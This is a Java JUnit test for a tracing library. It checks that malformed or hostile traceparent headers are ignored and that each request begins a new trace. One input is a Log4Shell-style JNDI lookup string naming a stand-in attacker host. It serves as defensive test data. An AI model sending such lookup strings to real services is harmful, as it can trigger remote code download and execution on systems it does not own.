package dev.vitals.tracing;

import static org.assertj.core.api.Assertions.assertThat;

import io.opentelemetry.sdk.trace.data.SpanData;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Whatever a client sends for a context: a request is traced, in a trace of its own. */
class HostileHeadersTest {
    private static final String TRACE_ID = "0af7651916cd43dd8448eb211c80319c";
    private static final String PARENT = "00-" + TRACE_ID + "-b7ad6b7169203331-01";

    private final TracingFixture fixture = new TracingFixture();

    @AfterEach
    void stop() {
        fixture.close();
    }

    private static Stream<List<String>> hostile() {
        return Stream.of(
                List.of(""),
                List.of("00"),
                List.of("\u0000"),
                List.of("00-" + TRACE_ID + "-b7ad6b7169203331"),
                List.of(PARENT + "-more"),
                List.of("ff-" + TRACE_ID + "-b7ad6b7169203331-01"),
                List.of("00-00000000000000000000000000000000-b7ad6b7169203331-01"),
                List.of("00-" + TRACE_ID + "-0000000000000000-01"),
                List.of("00-" + TRACE_ID.replace('0', 'z') + "-b7ad6b7169203331-01"),
                List.of(PARENT.replace('0', '٠')),
                List.of(PARENT, PARENT),
                List.of(PARENT, "00-ffffffffffffffffffffffffffffffff-b7ad6b7169203331-01"),
                List.of("-".repeat(1_000)),
                List.of(PARENT + " ".repeat(1_000_000)),
                List.of("${jndi:ldap://evil.example/a}"));
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void aTraceparentThatIsNoneBeginsATrace(List<String> values) {
        var headers = new ArrayList<String>();
        values.forEach(value -> headers.addAll(List.of("traceparent", value)));

        SpanData span = fixture.serve(TestRequest.get("/", headers.toArray(String[]::new)), "/", 200, null);

        assertThat(span.getSpanContext().isValid()).isTrue();
        assertThat(span.getTraceId()).isNotEqualTo(TRACE_ID);
        assertThat(span.getParentSpanContext().isValid()).isFalse();
    }
}
